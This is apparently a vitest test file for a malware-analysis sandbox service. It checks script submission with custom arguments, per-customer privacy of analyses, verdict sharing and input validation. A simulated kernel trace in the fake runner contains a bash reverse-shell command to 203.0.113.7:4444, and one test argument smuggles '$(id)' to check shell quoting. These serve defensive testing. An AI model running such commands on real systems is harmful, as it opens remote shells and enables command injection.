import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { AssayClient } from '../endpoint/client.ts';
import { system } from '../platform/caller.ts';
import { traceKey } from './kernel-trace.ts';
import { allTold, dumpOf, hashOf, quietGuest, send, startAssay, submitInput, submitMutation, type Assay, type Submitted } from './assay.ts';

/** A program that its run starts, as the kernel records it. */
const started = (words: string[]) => ['execve', 'exec'].map((call) => `bash-100 [000] ..... 1.500000: ${call}_${traceKey}: ${call === 'exec' ? '(sched.sched_process_exec)' : '(0x0)'} f="${words[0]}" `
  + (call === 'exec' ? '' : `${words.map((word, n) => `p${n}=0x1 a${n}="${word}"`).join(' ')} p${words.length}=0x0`)).join('\n');

describe('a file that is to be started in a way of its own', () => {
  let assay: Assay;
  let first: string;
  let second: string;
  const scripts: string[] = [];
  const inputs: string[] = [];

  beforeAll(async () => {
    assay = await startAssay({ ASSAY_RETRY_MS: '1' });
    const licence = { seats: 10, dailyQuota: 10_000 };
    [first, second] = [(await assay.customer(licence)).devices[0]!, (await assay.customer(licence)).devices[0]!];
    await assay.fakeRunner(async (script, files) => {
      const answer = await quietGuest(script, files);
      if (script.includes('detonate.sh')) {
        scripts.push(script);
        inputs.push(files.get('/run/assay/answers')?.toString() ?? '');
        // Only with this word it shows what it is.
        if (script.includes("'--harm'")) {
          const trace = files.get('/run/assay/trace')!.toString().trimEnd();
          files.set('/run/assay/trace', Buffer.from(`${trace}\n${started(['/bin/bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'])}\n`));
        }
      }
      return answer;
    });
  });
  afterAll(async () => await assay?.stop());

  const samples = () => assay.platform.subgraphs.find(({ name }) => name === 'samples')!.platform.database.for(system);
  const verdicts = () => assay.platform.subgraphs.find(({ name }) => name === 'verdicts')!.platform.database.for(system);
  const script = () => Buffer.from(`#!/bin/sh\n# as asked ${Math.random()}\n:\n`);
  const ask = async (token: string, bytes: Buffer, more: Record<string, unknown>) => (await assay.ask<Submitted>(token, submitMutation, { input: submitInput(bytes, { localScore: null, ...more }) })).data.sampleSubmit;
  const over = async (id: string) => await vi.waitFor(async () => {
    const [row] = await samples().execute<{ state: string }[]>('select state from submission where id = ?', [id]);
    expect(row!.state).toBe('ANALYZED');
  }, { timeout: 60_000, interval: 100 });
  const verdict = async (token: string, bytes: Buffer) =>
    (await assay.ask<{ verdict: { level: string; stage: string; revision: number; analysis: { id: string } | null; decisiveSignals: { evidence: string[] }[] } }>(token,
      'query ($sha256: Sha256!) { verdict(sha256: $sha256) { level stage revision analysis { id } decisiveSignals { evidence } } }', { sha256: hashOf(bytes) })).data.verdict;
  const cleanFor = async (bytes: Buffer) => {
    const { id } = await send(assay, first, bytes, { localScore: null });
    await over(id);
    expect(await verdict(first, bytes)).toMatchObject({ level: 'CLEAN', stage: 'FINAL' });
  };

  test('is started with these words and lines, whatever is known of it, and neither its words nor its lines are kept in the clear', async () => {
    const bytes = script();
    await cleanFor(bytes);
    const wishes = { arguments: ['--for', "Bob O'Neil; $(id)", ''], answers: ['Zacharias', 'yes'] };
    const { submission, upload } = await ask(first, bytes, wishes);
    expect(submission).toMatchObject({ state: 'QUEUED', decision: { outcome: 'SUBMIT' } });
    expect(upload).toBeNull();
    await over(submission!.id);
    expect(scripts.at(-1)).toContain(`'--for' 'Bob O'\\''Neil; $(id)' ''`);
    expect(inputs.at(-1)).toBe('Zacharias\nyes\n');
    const { data } = await assay.ask<{ submission: object }>(first, 'query ($id: ID!) { submission(id: $id) { arguments exportName answers } }', { id: submission!.id });
    expect(data.submission).toEqual({ ...wishes, exportName: null });
    await allTold(assay);
    const kept = (await Promise.all(['samples', 'audit'].map(async (schema) => await dumpOf(assay, schema)))).join('\n');
    expect(kept).not.toContain('Zacharias');
    const elsewhere = (await dumpOf(assay, 'verdicts')).split('\n').filter((row) => /O'Neil|Zacharias/.test(row)).map((row) => row.split(' ')[0]);
    expect(elsewhere.filter((table) => table !== 'event' && table !== 'signal'), 'what its own customer may look at').toEqual([]);
  });

  test("is not started so by others, who haven't shown that they have it", async () => {
    const bytes = script();
    const wishes = { arguments: ['--harm'] };
    const refused = { code: 'CONFLICT', field: ['input', 'sha256'] };
    // Asked before the bytes were there: the one who brings them doesn't have them started so.
    const early = await ask(second, bytes, wishes);
    expect(early.submission).toMatchObject({ state: 'AWAITING_UPLOAD' });
    await cleanFor(bytes);
    const state = async (id: string) => (await samples().execute<{ state: string }[]>('select state from submission where id = ?', [id]))[0]!.state;
    expect(await state(early.submission!.id)).toBe('AWAITING_UPLOAD');
    const late = await ask(second, bytes, wishes);
    expect(late.userErrors).toMatchObject([refused]);
    expect(scripts.filter((one) => one.includes('--harm'))).toEqual([]);
    expect(await verdict(first, bytes)).toMatchObject({ level: 'CLEAN' });
    await send(assay, second, bytes, { localScore: null });
    await over(early.submission!.id);
    expect(scripts.filter((one) => one.includes('--harm'))).toHaveLength(1);
  });

  test('is shown to be here by the client itself, and then started so', async () => {
    const bytes = script();
    await cleanFor(bytes);
    const client = new AssayClient({ url: assay.url, token: second });
    const facts = { sha256: hashOf(bytes), size: bytes.length, fileName: 'a.sh', category: 'SCRIPT' as const, contains: [] };
    const submission = await client.submit(bytes, { arguments: ['--client'] }, facts);
    await over(submission.id);
    expect(scripts.filter((one) => one.includes("'--client'"))).toHaveLength(1);
    await client.close();
  });

  test('is no more CLEAN to others for it, and no less', async () => {
    const bytes = script();
    const { id } = await send(assay, first, bytes, { localScore: null, arguments: ['--quiet'] });
    await over(id);
    await assay.analysed(bytes);
    const all = await verdicts().execute<{ start: string; asked_by: string | null }[]>('select start, asked_by from analysis where sha256 = ? order by start', [hashOf(bytes)]);
    expect(all.map(({ start }) => start), 'for itself, and for everybody').toEqual(['asked', 'sh']);
    const before = await verdict(second, bytes);
    expect(before).toMatchObject({ level: 'CLEAN', stage: 'FINAL' });
    await send(assay, second, bytes, { localScore: null });
    const { submission } = await ask(second, bytes, { arguments: ['--other'] });
    await over(submission!.id);
    expect(await verdict(first, bytes), 'an own analysis of somebody changes nothing').toMatchObject({ level: 'CLEAN', stage: 'FINAL', revision: before.revision });
  });

  test('makes the verdict worse for everybody, with its record for its own customer alone', async () => {
    const bytes = script();
    await cleanFor(bytes);
    await send(assay, second, bytes, { localScore: null });
    const { submission } = await ask(second, bytes, { arguments: ['--harm', 'Zacharias'] });
    await over(submission!.id);
    const [own, others] = [await verdict(second, bytes), await verdict(first, bytes)];
    expect(others.level).not.toBe('CLEAN');
    expect(others.level).not.toBe('UNKNOWN');
    expect(own).toMatchObject({ level: others.level, analysis: { id: expect.any(String) as string } });
    expect(others.analysis, 'what was observed is not theirs').toBeNull();
    expect(others.decisiveSignals.flatMap(({ evidence }) => evidence)).toEqual([]);
    const looked = await assay.ask<{ analysis: object | null }>(first, 'query ($id: ID!) { analysis(id: $id) { id } }', { id: own.analysis!.id });
    expect(looked.data.analysis).toBeNull();
    // Somebody starts it harmlessly: that says nothing against it.
    const { submission: again } = await ask(second, bytes, { arguments: ['--quiet'] });
    await over(again!.id);
    expect((await verdict(first, bytes)).level).toBe(others.level);
  });

  test('is refused where a word is none, or there are too many, and names the field', async () => {
    const bytes = script();
    for (const [wishes, field] of [[{ arguments: ['a\u0007b'] }, 'arguments'], [{ answers: ['a\nb'] }, 'answers'], [{ exportName: 'a b' }, 'exportName'], [{ arguments: Array.from({ length: 65 }, () => 'a') }, 'arguments']] as const) {
      const { submission, userErrors } = await ask(first, bytes, wishes);
      expect(submission).toBeNull();
      expect(userErrors).toMatchObject([{ code: 'INVALID', field: ['input', field] }]);
    }
    const { errors } = await assay.ask(first, submitMutation, { input: submitInput(bytes, { arguments: ['a\0b'] }) });
    expect(errors?.map(({ extensions }) => extensions.code), 'no text of ours has a NUL').toEqual(['BAD_USER_INPUT']);
  });
});
